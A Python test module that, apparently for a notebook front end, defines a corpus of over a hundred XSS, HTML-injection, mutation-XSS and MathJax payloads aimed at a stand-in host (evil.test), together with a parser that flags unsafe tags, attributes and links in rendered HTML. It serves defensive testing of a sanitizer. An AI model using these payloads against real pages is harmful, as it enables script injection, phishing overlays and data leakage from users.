"""What a hostile model could write: a corpus, and the check that HTML made of it is harmless.

Every payload that could run sets ``window.pwned`` or loads from ``https://evil.test``, so that a
browser test can watch for either.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

_JS = "window.pwned=1"
_EVIL = "https://evil.test"

NAMED_PAYLOADS: dict[str, str] = {
    # scripts and handlers
    "script": f"<script>{_JS}</script>",
    "script_src": f'<script src="{_EVIL}/x.js"></script>',
    "script_case": f"<ScRiPt>{_JS}</sCrIpT>",
    "script_nested": f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    "script_null": f"<scr\x00ipt>{_JS}</script>",
    "img_onerror": f"<img src=x onerror={_JS}>",
    "img_slashes": f"<img/src=x/onerror={_JS}>",
    "img_backtick": f"<img src=`x`onerror={_JS}>",
    "img_unclosed": f'<img src="{_EVIL}/a.png',
    "img_srcset": f'<img srcset="{_EVIL}/a.png 1x">',
    "svg_onload": f"<svg onload={_JS}></svg>",
    "svg_script": f"<svg><script>{_JS}</script></svg>",
    "svg_animate": f'<svg><a><animate attributeName=href values="javascript:{_JS}"/><text y=20>x</text></a></svg>',
    "svg_use": f'<svg><use href="{_EVIL}/x.svg#a"/></svg>',
    "math_link": f'<math href="javascript:{_JS}">x</math>',
    "body_onload": f"<body onload={_JS}>",
    "details_toggle": f"<details open ontoggle={_JS}>x</details>",
    "input_autofocus": f"<input autofocus onfocus={_JS}>",
    "video_source": f'<video><source onerror="{_JS}" src="{_EVIL}/v.mp4"></video>',
    "audio": f'<audio src="{_EVIL}/a.mp3" autoplay></audio>',
    "marquee": f"<marquee onstart={_JS}>x</marquee>",
    # other documents and the page itself
    "iframe": f'<iframe src="javascript:{_JS}"></iframe>',
    "iframe_srcdoc": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "object": f'<object data="data:text/html,<script>{_JS}</script>"></object>',
    "embed": f'<embed src="{_EVIL}/x.swf">',
    "meta_refresh": f'<meta http-equiv="refresh" content="0;url={_EVIL}/">',
    "base": f'<base href="{_EVIL}/">',
    "link_stylesheet": f'<link rel=stylesheet href="{_EVIL}/x.css">',
    "form": f'<form action="{_EVIL}/"><input name=p><button>Log in</button></form>',
    "formaction": f'<button formaction="javascript:{_JS}">x</button>',
    "template": f"<template><script>{_JS}</script></template>",
    # styles
    "style_import": f"<style>@import '{_EVIL}/x.css';</style>",
    "style_background": f'<div style="background:url({_EVIL}/x.png)">x</div>',
    "style_overlay": '<div style="position:fixed;inset:0;z-index:9999">Log in again</div>',
    "style_expression": f'<p style="width:expression({_JS})">x</p>',
    "class_of_the_page": '<div class="jp-Dialog jp-mod-styled">x</div>',
    "id_clobbering": '<a id="jupyter-config-data">x</a><p id="main">y</p>',
    # links
    "js_link": f"[click](javascript:{_JS})",
    "js_link_case": f"[click](JaVaScRiPt:{_JS})",
    "js_link_entity": f"[click](java&#115;cript:{_JS})",
    "js_link_hex": f"[click](&#x6A;avascript:{_JS})",
    "js_link_named": f"[click](javascript&colon;{_JS})",
    "js_link_tab": f"[click](<java\tscript:{_JS}>)",
    "js_link_newline_entity": f"[click](java&NewLine;script:{_JS})",
    "js_link_leading": f"[click](&#1;javascript:{_JS})",
    "js_autolink": f"<javascript:{_JS}>",
    "js_reference": f"[click][a]\n\n[a]: javascript:{_JS}",
    "vbscript": f"[click](vbscript:{_JS})",
    "html_js_link": f'<a href="javascript:{_JS}">x</a>',
    "html_js_link_spaced": f'<a href=" &#14; javascript:{_JS}">x</a>',
    "html_js_link_split": f'<a href="jav&#x0A;ascript:{_JS}">x</a>',
    "data_link": "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "data_svg": "[click](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93LnB3bmVkPTE+)",
    "file_link": "[click](file:///etc/passwd)",
    "relative_link": "[click](../../logout)",
    "protocol_relative": "[click](//evil.test/)",
    "attribute_breakout": f'[click](https://evil.test/"onmouseover="{_JS})',
    "title_breakout": f"[click](https://evil.test/ '\"onmouseover={_JS} x=\"')",
    "target_opener": f'<a href="{_EVIL}/" target="_blank" rel="opener">x</a>',
    "ping": f'<a href="{_EVIL}/" ping="{_EVIL}/ping">x</a>',
    # images
    "image": f"![a picture]({_EVIL}/p.png?secret=1)",
    "image_in_link": f"[![a]({_EVIL}/p.png)]({_EVIL}/)",
    "image_reference": f"![a][p]\n\n[p]: {_EVIL}/p.png",
    "image_data": "![a](data:image/png;base64,iVBORw0KGgo=)",
    "image_js": f"![a](javascript:{_JS})",
    "image_alt_breakout": f'![a"onerror="{_JS}]({_EVIL}/p.png)',
    # commands of the front end
    "command_link": '<a data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">x</a>',
    "command_button": '<button data-commandlinker-command="terminal:create-new">x</button>',
    "vscode_command": "[click](command:workbench.action.terminal.new)",
    "attachment": "![a](attachment:x.png)",
    # formulas
    "math_href": f"$\\href{{javascript:{_JS}}}{{x}}$",
    "math_href_display": f"$$\\href{{javascript:{_JS}}}{{x}}$$",
    "math_href_bracket": f"\\[\\href{{javascript:{_JS}}}{{x}}\\]",
    "math_href_environment": f"\\begin{{align}}\\href{{javascript:{_JS}}}{{x}}\\end{{align}}",
    "math_href_entity": f"$\\&#104;ref{{javascript:{_JS}}}{{x}}$",
    "math_href_plain": f"\\\\(\\href{{javascript:{_JS}}}{{x}}\\\\)",
    "math_url": f"$\\url{{javascript:{_JS}}}$",
    "math_style": f"$\\style{{background:url({_EVIL}/x.png)}}{{x}}$",
    "math_class": "$\\class{jp-Dialog}{x}$",
    "math_id": "$\\cssId{main}{x}$",
    "math_require": "$\\require{html}\\unicode[x]{65}$",
    "math_def": "$\\def\\alpha{\\beta}\\let\\gamma=\\delta\\newcommand{\\x}{y}$",
    "math_image": f"$\\includegraphics{{{_EVIL}/x.png}}$",
    "math_bbox": f"$\\bbox[background:url({_EVIL}/x.png)]{{x}}$",
    "math_token": f"$\\mmlToken{{mi}}[href='javascript:{_JS}']{{x}}$",
    "math_text_breakout": f"$\\text{{</span><img src=x onerror={_JS}>}}$",
    "math_html": f"$$\n<img src=x onerror={_JS}>\n$$",
    # code
    "fence": f"```html\n<img src=x onerror={_JS}>\n```",
    "fence_info": f'```"><img src=x onerror={_JS}>\ncode\n```',
    "fence_unclosed": f"```\n</code></pre><script>{_JS}</script>",
    "fence_python": f'```python\nx = "</span><script>{_JS}</script>"\n```',
    "code_span": f"`<img src=x onerror={_JS}>`",
    "json_html": f'{{"a": "<img src=x onerror={_JS}>"}}',
    # parsers that disagree (mutation XSS)
    "comment_unclosed": f"<!-- <img src=x onerror={_JS}>",
    "comment_bang": f"<!--!><img src=x onerror={_JS}>-->",
    "comment_dashes": f"<!--><script>{_JS}</script>-->",
    "cdata": f"<svg><![CDATA[><img src=x onerror={_JS}>]]></svg>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_JS}>"></noscript>',
    "textarea": f'<textarea><p title="</textarea><img src=x onerror={_JS}>"></textarea>',
    "title": f"<title><img src=x onerror={_JS}></title>",
    "math_style_mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_JS}&gt;">',
    "form_mutation": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_JS}>",
    "svg_style_mutation": f'<svg></p><style><a id="</style><img src=1 onerror={_JS}>">',
    "select_mutation": f"<select><template><script>{_JS}</script></template></select>",
    "plaintext": f"<plaintext><script>{_JS}</script>",
    "xmp": f'<xmp><p title="</xmp><script>{_JS}</script>">',
    "table_mutation": f"<table><td><img src=x onerror={_JS}></table>",
    "markdown_in_html": f"<div>\n\n[x](javascript:{_JS})\n\n</div>",
    "table_cell": f"| a |\n|---|\n| <img src=x onerror={_JS}> |",
    "utf7": f"+ADw-script+AD4-{_JS}+ADw-/script+AD4-",
    "overlong": f"\u2028<script>{_JS}</script>\u2029",
    "half_character": f"\ud800<script>{_JS}</script>",
}

PAYLOADS = tuple(NAMED_PAYLOADS.values())

# Its own list, on purpose: it must not follow the code that it checks.
TAGS = frozenset(
    re.findall(
        r"\w+",
        "a abbr b blockquote br caption code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i ins kbd li mark "
        "ol p pre q s samp small span strong sub summary sup table tbody td tfoot th thead tr u ul var",
    )
)
ATTRIBUTES = frozenset({"href", "title", "start", "colspan", "rowspan", "class", "style", "target", "rel"})
_STYLE = re.compile(
    r"(?:color: ?var\(--jp-[\w-]+, #[0-9a-f]{6}\)|text-align:(?:left|center|right)|margin-top:0\.5em|font-size:85%"
    r"|white-space:pre-wrap|overflow-wrap:anywhere|;)*"
)
_UNSAFE_MATH = re.compile(
    r"\\(?:href|url|style|class|cssId|require|unicode|def|let|newcommand|includegraphics|bbox|mmlToken)(?![A-Za-z])"
)


class _Reader(HTMLParser):
    """Collects what must not be in a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._code = 0
        self._text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._end_of_text()
        self._code += tag in ("pre", "code")
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        self._end_of_text()
        self._code -= tag in ("pre", "code")

    def handle_data(self, data: str) -> None:
        if not self._code:
            self._text += data

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"declaration {decl!r}")

    handle_pi = unknown_decl = handle_decl

    def close(self) -> None:
        super().close()
        self._end_of_text()

    def _attribute(self, tag: str, name: str, value: str) -> None:
        allowed = name in ATTRIBUTES
        if name == "href":
            allowed = tag == "a" and value.startswith(("https://", "http://", "mailto:"))
        elif name == "style":
            allowed = _STYLE.fullmatch(value) is not None
        elif name == "class":
            allowed = tag == "code" and re.fullmatch(r"language-[\w.+#-]+", value) is not None
        elif name == "rel":
            allowed = value == "noopener noreferrer"
        if not allowed:
            self.found.append(f"{tag} {name}={value!r}")

    def _end_of_text(self) -> None:
        """MathJax reads a run of text between two tags."""
        self.found += _UNSAFE_MATH.findall(self._text)
        self._text = ""


def violations(html: str) -> list[str]:
    """What a page that holds this HTML would do, load or show that no answer may."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found
